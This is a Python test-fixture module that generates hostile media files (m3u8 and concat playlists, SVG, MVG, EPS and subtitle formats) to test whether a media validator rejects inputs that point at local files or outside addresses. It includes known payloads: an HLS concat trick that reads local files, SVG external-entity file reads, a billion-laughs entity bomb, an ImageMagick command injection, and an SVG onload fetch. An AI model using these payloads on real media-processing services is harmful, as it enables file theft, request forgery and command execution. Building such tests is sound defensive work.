"""Playlists, scripts, drawings and documents that name a local file or an address: none of them is a medium."""

from collections.abc import Callable

from hostile_media.kind import AUDIO, IMAGE, VIDEO, Hostile, Lure, Part

_PART = Part()
TEXTS: dict[str, Hostile] = _PART.files

Written = Callable[[Lure], str]

PLAYLISTS: dict[str, tuple[Written, str]] = {
    "m3u8 of a path": (lambda to: f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{to.path}\n#EXT-X-ENDLIST\n", "m3u8"),
    "m3u8 of a file address": (lambda to: f"#EXTM3U\n#EXTINF:9,\nfile://{to.path}\n#EXT-X-ENDLIST\n", "m3u8"),
    "m3u8 of an address": (lambda to: f"#EXTM3U\n#EXTINF:9,\n{to.url}/a.ts\n#EXT-X-ENDLIST\n", "m3u8"),
    "m3u8 that joins both": (
        lambda to: f"#EXTM3U\n#EXTINF:9,\nconcat:{to.url}/?|subfile,,start,0,end,64,,:{to.path}\n#EXT-X-ENDLIST\n",
        "m3u8",
    ),
    "m3u8 with a key": (
        lambda to: f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{to.url}/key"\n#EXTINF:9,\ncrypto+file:{to.path}\n',
        "m3u8",
    ),
    "m3u8 with a map": (lambda to: f'#EXTM3U\n#EXT-X-MAP:URI="{to.path}"\n#EXTINF:9,\na.mp4\n', "m3u8"),
    "m3u8 of playlists": (lambda to: f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{to.url}/b.m3u8\n", "m3u8"),
    "m3u8 behind a mark of order": (lambda to: f"\ufeff#EXTM3U\n#EXTINF:9,\n{to.url}/a.ts\n", "m3u8"),
    "m3u8 in small letters": (lambda to: f"#extm3u\n#EXTINF:9,\n{to.path}\n", "m3u8"),
    "concat script": (lambda to: f"ffconcat version 1.0\nfile '{to.path}'\nfile '{to.url}/a.mp4'\n", "ffconcat"),
    "concat script without its first line": (lambda to: f"file '{to.path}'\nduration 5\n", "a text"),
    "pls": (lambda to: f"[playlist]\nFile1={to.url}/a.mp3\nFile2={to.path}\nNumberOfEntries=2\n", "json | a text"),
    "asx": (lambda to: f'<asx version="3.0"><entry><ref href="{to.url}/a.wmv"/></entry></asx>', "a text (xml)"),
    "xspf": (lambda to: f"<playlist><trackList><track><location>file://{to.path}</location></track>", "a text (xml)"),
    "dash of a path": (
        lambda to: f"<?xml version='1.0'?><MPD><Period><BaseURL>file://{to.path}</BaseURL></Period></MPD>",
        "a playlist (dash)",
    ),
    "dash of an address": (lambda to: f"<MPD><Period><BaseURL>{to.url}/</BaseURL></Period></MPD>", "a playlist (dash)"),
    "smil of both": (lambda to: f'<smil><par><video src="{to.url}/v"/><audio src="{to.path}"/></par></smil>', "smil"),
    "sdp": (
        lambda to: f"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\na=control:{to.url}\nm=video 9 RTP/AVP 96\n",
        "a text",
    ),
    "ram": (lambda to: f"{to.url}/a.rm\nfile://{to.path}\n", "a text"),
    "cue sheet": (lambda to: f'FILE "{to.path}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n', "a text"),
    "edl": (lambda to: f"# mpv EDL v0\n{to.path},0,5\n{to.url}/a.mp4,5,5\n", "a text"),
    "avisynth script": (lambda to: f'AviSource("{to.path}")\n', "a text"),
    "vapoursynth script": (lambda to: f'import vapoursynth\nopen("{to.path}").read()\n', "a text"),
    "mlt project": (
        lambda to: f'<mlt><producer><property name="resource">{to.path}</property></producer></mlt>',
        "a text (xml)",
    ),
    "final cut project": (lambda to: f'<fcpxml><asset src="file://{to.path}"/></fcpxml>', "a text (xml)"),
    "timeline in json": (lambda to: f'{{"OTIO_SCHEMA": "Clip.1", "target_url": "file://{to.path}"}}', "json"),
}
DRAWINGS: dict[str, tuple[Written, str]] = {
    "svg of a path": (lambda to: f'<svg><image xlink:href="file://{to.path}" width="9" height="9"/></svg>', "svg"),
    "svg of an address": (lambda to: f'<svg xmlns="s"><image href="{to.url}/a.png"/></svg>', "svg"),
    "svg that uses another": (lambda to: f'<svg><use xlink:href="{to.url}/a.svg#x"/></svg>', "svg"),
    "svg with a style": (lambda to: f"<svg><style>@import url({to.url}/a.css);</style></svg>", "svg"),
    "svg with an entity": (
        lambda to: f'<!DOCTYPE s [<!ENTITY x SYSTEM "file://{to.path}">]><svg><text>&x;</text></svg>',
        "svg",
    ),
    "svg with its rules elsewhere": (lambda to: f'<!DOCTYPE svg SYSTEM "{to.url}/a.dtd"><svg/>', "svg"),
    "svg with a script": (lambda to: f"<svg onload=\"fetch('{to.url}')\"/>", "svg"),
    "svg behind a long comment": (lambda to: f"<!--{'x' * 9000}--><svg><image href='{to.url}'/></svg>", "a text (xml)"),
    "laughing entities": (
        lambda to: (
            "<!DOCTYPE l [<!ENTITY a 'ha'>"
            + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
            + f"]><svg><!-- {to.url} --><text>&j;</text></svg>"
        ),
        "svg",
    ),
    "mvg of a path": (lambda to: f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '{to.path}'\n", "a text"),
    "mvg of a command": (
        lambda to: f"push graphic-context\nfill 'url({to.url}/\"|touch {to.path}\")'\npop graphic-context\n",
        "a text",
    ),
    "msl": (lambda to: f'<image><read filename="{to.path}"/><write filename="{to.path}.out"/></image>', "a text (xml)"),
    "name of a coder": (lambda to: f"label:@{to.path}\n", "a text"),
    "xpm": (lambda to: f'/* XPM */\nstatic char *a[] = {{"1 1 1 1", "a c red", "a"}}; /* {to.url} */\n', "a text"),
    "xbm": (lambda to: f"#define a_width 8\n#define a_height 1\nstatic char a[] = {{0}}; // {to.path}\n", "a text"),
    "eps": (lambda to: f"%!PS-Adobe-3.0 EPSF-3.0\n({to.path}) (r) file 9 string readstring\n", "postscript"),
    "eps with a head of dos": (
        lambda to: "\u00c5" + f"\n%!PS-Adobe-3.0\n({to.path}) run\n",
        "a text",
    ),
    "pdf": (lambda to: f"%PDF-1.7\n1 0 obj<</Type/Action/S/URI/URI({to.url})>>endobj\n", "pdf"),
    "web page that leads on": (lambda to: f'<html><meta http-equiv="refresh" content="0;url={to.url}"></html>', "html"),
    "style sheet": (lambda to: f"<?xml-stylesheet href='{to.url}/a.xsl'?><a/>", "a text (xml)"),
}
SUBTITLES: dict[str, tuple[Written, str]] = {
    "sami": (lambda to: f"<SAMI><BODY><SYNC Start=0><P><img src='{to.url}/a.png'></BODY></SAMI>", "a text (xml)"),
    "subrip": (lambda to: f"1\n00:00:00,000 --> 00:00:05,000\n<img src='{to.path}'>\n", "a text"),
    "web vtt": (lambda to: f"WEBVTT\n\nSTYLE\n@import url({to.url});\n\n00:00.000 --> 00:05.000\nhi\n", "a text"),
    "ass": (lambda to: f"[Script Info]\nScriptType: v4.00+\nAudio File: {to.path}\n", "json | a text"),
    "lyrics": (lambda to: f"[ar:{to.url}]\n[00:00.00]la\n", "json | a text"),
    "ffmetadata": (lambda to: f";FFMETADATA1\ntitle={to.path}\n", "a text"),
    "shortcut": (lambda to: f"[InternetShortcut]\nURL={to.url}\n", "json | a text"),
    "description of a stream": (lambda to: f"RTSPtext\r\nrtsp://127.0.0.1/{to.path}\r\n", "a text"),
    "ascii scene": (lambda to: f"#usda 1.0\n( subLayers = [@{to.path}@, @{to.url}/a.usd@] )\n", "a text"),
}
for _texts, _modality in ((PLAYLISTS, VIDEO), (DRAWINGS, IMAGE), (SUBTITLES, AUDIO)):
    for _name, (_written, _reason) in _texts.items():
        _PART.luring(_name, _modality, lambda to, written=_written: written(to).encode(), reason=_reason)
for _name in ("m3u8 of a path", "m3u8 of an address", "concat script", "pls"):
    _written, _reason = PLAYLISTS[_name]
    _PART.luring(f"{_name} as a sound", AUDIO, lambda to, written=_written: written(to).encode(), reason=_reason)
    _PART.luring(f"{_name} as an image", IMAGE, lambda to, written=_written: written(to).encode(), reason=_reason)
_PART.luring(
    "m3u8 in two bytes a letter",
    VIDEO,
    lambda to: f"#EXTM3U\n#EXTINF:9,\n{to.url}\n".encode("utf-16"),
    reason="of no kind | another layer",
)
_PART.luring(
    "m3u8 with zeros between", VIDEO, lambda to: f"#EXTM3U\n\0{to.path}\0\n".encode(), reason="a playlist (m3u8)"
)
_PART.luring("name of a file", IMAGE, lambda to: to.path.encode(), reason="a text")
_PART.luring("name of a file with a zero", IMAGE, lambda to: to.path.encode() + b"\0.png", reason="of no kind")
_PART.luring("address alone", VIDEO, lambda to: f"{to.url}/film.mp4".encode(), reason="a text")
